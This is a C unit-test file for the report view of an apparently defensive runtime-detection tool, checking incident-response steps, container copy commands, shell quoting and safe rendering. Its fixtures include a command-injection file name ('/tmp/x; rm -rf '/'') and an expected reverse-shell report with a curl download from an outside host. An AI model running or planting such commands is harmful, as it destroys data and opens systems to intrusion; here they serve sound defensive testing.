/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "report/show.h"

#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "base/compiler.h"
#include "base/escape.h"
#include "unit/sample.h"

static const struct {
	const char *step, *filled; /* filled NULL: left out */
} steps[] = {
	{ "kill -STOP {pid}", "kill -STOP 812" },
	{ "cut {remote} off", "cut 203.0.113.9:4444 off" },
	{ "cp {path} ./sample", "cp /tmp/x ./sample" },
	{ "ausearch -a {serial}", "ausearch -a 326" },
	{ "at {time}", "at 2026-11-21 23:25:58 UTC" },
	{ "kubectl cp {namespace}/{pod}:{path} .", "kubectl cp shop/web-7c9:/tmp/x ." },
	{ "auspex tree --finding {id}", "auspex tree --finding 7" },
	{ "nothing to fill in", "nothing to fill in" },
	{ "an open { brace", "an open { brace" },
	{ "{unknown} name", NULL },
	{ "first {pid} then {unknown}", NULL },
};

START_TEST(steps_are_filled_in)
{
	struct finding *f = sample_shell();
	struct show show = { .id = 7, .finding = f };
	struct strbuf sb;
	bool all;

	strbuf_init(&sb);
	strbuf_add_str(&sb, "1. ");
	all = show_add_step(&sb, slice_str(steps[_i].step), &show);
	ck_assert_int_eq(all, steps[_i].filled != NULL);
	ck_assert_str_eq(strbuf_str(&sb) + 3, steps[_i].filled ? steps[_i].filled : "");
	strbuf_fini(&sb);
	finding_free(&f);
}
END_TEST

/* What is not known of a finding leaves its steps out. */
START_TEST(steps_need_their_values)
{
	static const char *const names[] = { "{pid}",  "{remote}", "{path}",   "{serial}",
					     "{time}", "{pod}",    "{sha256}", "{exe}" };
	struct finding *f = sample_bare();
	struct show show = { .id = 7, .finding = f };
	struct strbuf sb;

	strbuf_init(&sb);
	for (size_t i = 0; i < ARRAY_SIZE(names); i++)
		ck_assert_msg(!show_add_step(&sb, slice_str(names[i]), &show), "%s",
			      names[i]);
	strbuf_fini(&sb);
	finding_free(&f);
}
END_TEST

/* Whoever runs the container has a command of his own to copy a file out. */
static const struct {
	struct finding_container container;
	const char *kind, *copy, *look;
} runtimes[] = {
	{ { .id = "c1", .name = "web", .pod = "web-7c9", .ns = "shop" },
	  "binary",
	  "kubectl cp shop/web-7c9:/tmp/x ./sample -c web\n",
	  "kubectl exec -ti -n shop web-7c9 -c web -- /bin/sh\n" },
	{ { .id = "c1", .pod = "web-7c9", .ns = "shop", .runtime = "cri-o" },
	  "binary",
	  "kubectl cp shop/web-7c9:/tmp/x ./sample\n",
	  "kubectl exec -ti -n shop web-7c9 -- /bin/sh\n" },
	{ { .id = "c1", .name = "my web", .runtime = "docker" },
	  "binary",
	  "docker cp 'my web':/tmp/x ./sample\n",
	  "docker exec -ti 'my web' /bin/sh\n" },
	{ { .id = "c1", .runtime = "podman" },
	  "script",
	  "podman cp c1:/tmp/x ./sample\n",
	  "podman exec -ti c1 /bin/sh\n" },
	{ { .id = "c1", .name = "web", .runtime = "cri-o" },
	  "binary",
	  "crictl exec c1 cat /tmp/x > sample\n",
	  "crictl exec -it c1 /bin/sh\n" },
	{ { .id = "c1", .runtime = "containerd" },
	  "binary",
	  "nerdctl cp c1:/tmp/x ./sample\n",
	  "nerdctl exec -ti c1 /bin/sh\n" },
	{ { .id = "c1", .runtime = "lxc" },
	  "library",
	  "lxc-attach -n c1 -- cat /tmp/x > sample\n",
	  "lxc-attach -n c1\n" },
	{ { .id = "c1", .runtime = "runc" },
	  "binary",
	  "cp /proc/812/root/tmp/x ./sample\n",
	  "nsenter --target 812 --all /bin/sh\n" },
	{ { 0 }, "binary", ":\tcp /tmp/x ./sample\n", NULL },
	{ { 0 }, "memfd", NULL, NULL },
};

static char *steps_of(const struct finding *f)
{
	struct show show = { .id = 7, .finding = f };
	struct show_steps iter;
	struct strbuf sb;

	strbuf_init(&sb);
	show_steps_begin(&iter, &show);
	while (show_steps_next(&iter, &sb))
		strbuf_add_char(&sb, '\n');
	/* Yours: the buffer. */
	return sb.ptr;
}

START_TEST(a_file_is_copied_by_what_runs_the_container)
{
	const struct finding_container *c = &runtimes[_i].container;
	const struct finding_target target = { .path = "/tmp/x",
					       .kind = runtimes[_i].kind };
	struct finding *f = sample_shell();
	char *text;

	f->detector = detector_info(DETECT_ADDED_BINARY_EXECUTED);
	f->target = &target;
	f->container = c->id ? c : NULL;
	text = steps_of(f);
	if (runtimes[_i].copy)
		ck_assert_msg(strstr(text, runtimes[_i].copy) != NULL, "%s", text);
	else
		ck_assert_msg(strstr(text, "/tmp/x ") == NULL, "%s", text);
	if (runtimes[_i].look)
		ck_assert_msg(strstr(text, runtimes[_i].look) != NULL, "%s", text);
	else
		ck_assert_msg(strstr(text, "Look inside") == NULL, "%s", text);
	ck_assert_msg(strstr(text, "path: '/tmp/x'") != NULL, "%s", text);
	free(text);
	finding_free(&f);
}
END_TEST

/* Steps are pasted into a shell: a name must not run there. */
START_TEST(steps_quote_what_others_chose)
{
	static const struct finding_target target = { .path = "/tmp/x; rm -rf '/'" };
	struct finding *f = sample_bare();
	struct show show = { .id = 7, .database = "my base.db", .finding = f };
	struct strbuf sb;

	f->target = &target;
	strbuf_init(&sb);
	ck_assert(show_add_step(&sb, SLICE_LIT("cp {path} ./sample"), &show));
	ck_assert_str_eq(strbuf_str(&sb), "cp '/tmp/x; rm -rf '\\''/'\\''' ./sample");
	strbuf_clear(&sb);
	ck_assert(show_add_step(&sb, SLICE_LIT("auspex tree --finding {id}"), &show));
	ck_assert_str_eq(strbuf_str(&sb), "auspex tree --finding 7 -d 'my base.db'");
	strbuf_fini(&sb);
	finding_free(&f);
}
END_TEST

static char *page(struct finding *f, const struct report_options *look)
{
	struct process_list none = { 0 };
	struct show show = { .id = 7, .finding = f, .processes = &none };
	char *text = NULL;
	size_t len;
	FILE *out = open_memstream(&text, &len);

	show_print(out, &show, look);
	fclose(out);
	finding_free(&f);
	return text;
}

START_TEST(a_page_tells_the_story)
{
	static const char *const lines[] = {
		"#7  critical  Reverse Shell\n",
		"  When        2026-11-21 23:25:58.915 UTC, last seen ",
		"  Container   web (0123456789ab), by containerd, entered by exec\n",
		"  Image       registry/web:1.4 sha256:aa\n",
		"  Pod         shop/web-7c9\n",
		"  Confidence  high: every step is in the records\n",
		"  Confirmed   fds 0, 1 and 2 were that connection while it ran\n",
		"  Environment LD_PRELOAD=/tmp/.x.so\n",
		"  ATT&CK      T1059.004 Unix Shell (execution) https://attack.mitre.org/",
		"  Started by  (not observed) (1)\n",
		"              nginx (800)\n",
		"  Command     bash -i\n",
		"  User        www-data (33), logged in as nobody\n",
		"  Remote      203.0.113.9:4444\n",
		"  Descriptors 0, 1, 2, by dup\n",
		"  Path        /tmp/x, not in the manifest\n",
		"  Written by  curl -o /tmp/x http://203.0.113.9/x (pid 790)\n",
		"  From        http://203.0.113.9/x\n",
		"  23:25:58.910  #325  connect 203.0.113.9:4444\n",
		"  23:25:58.915  #326  dup2 3 -> 0\n",
		"    SOCKADDR saddr={ saddr_fam=inet laddr=203.0.113.9 lport=4444 }\n",
		"What to do next\n   1. Cut the connection to 203.0.113.9:4444 at the ",
	};
	static const struct report_options look;
	char *text = page(sample_shell(), &look);
	const char *at = text;

	for (size_t i = 0; i < ARRAY_SIZE(lines); i++) {
		ck_assert_msg(strstr(text, lines[i]) != NULL, "\"%s\" is not in\n%s",
			      lines[i], text);
	}
	ck_assert_ptr_eq(strstr(at, lines[0]), text);
	free(text);
}
END_TEST

static const struct report_options looks[] = {
	{ 0 },
	{ .raw = true },
	{ .width = 60, .utf8 = true },
	{ .width = 40, .utf8 = true, .raw = true },
};

START_TEST(a_page_is_safe_to_look_at)
{
	char *text = page(sample_hostile(), &looks[_i]);

	for (struct slice s = slice_str(text); s.len > 0;) {
		unsigned cp = 0;
		size_t len = utf8_scan(s, &cp);

		if (len == 0 || (cp < 0x20 && cp != '\n') || (cp >= 0x7f && cp <= 0x9f) ||
		    cp == 0x202e || cp == 0x200b)
			ck_abort_msg("U+%04X in\n%s", cp, text);
		s = slice_skip(s, len);
	}
	free(text);
}
END_TEST

START_TEST(a_page_of_next_to_nothing)
{
	static const struct report_options look;
	char *text = page(sample_bare(), &look);

	ck_assert_ptr_nonnull(strstr(text, "#7  high  Execution of a deleted file"));
	ck_assert_ptr_null(strstr(text, "(null)"));
	ck_assert_ptr_null(strstr(text, "Process"));
	ck_assert_ptr_null(strstr(text, "What to do next"));
	free(text);
}
END_TEST

Suite *suite_show(void);

Suite *suite_show(void)
{
	Suite *suite = suite_create("show");
	TCase *tc = tcase_create("show");

	tcase_add_loop_test(tc, steps_are_filled_in, 0, ARRAY_SIZE(steps));
	tcase_add_test(tc, steps_need_their_values);
	tcase_add_loop_test(tc, a_file_is_copied_by_what_runs_the_container, 0,
			    ARRAY_SIZE(runtimes));
	tcase_add_test(tc, steps_quote_what_others_chose);
	tcase_add_test(tc, a_page_tells_the_story);
	tcase_add_loop_test(tc, a_page_is_safe_to_look_at, 0, ARRAY_SIZE(looks));
	tcase_add_test(tc, a_page_of_next_to_nothing);
	suite_add_tcase(suite, tc);
	return suite;
}
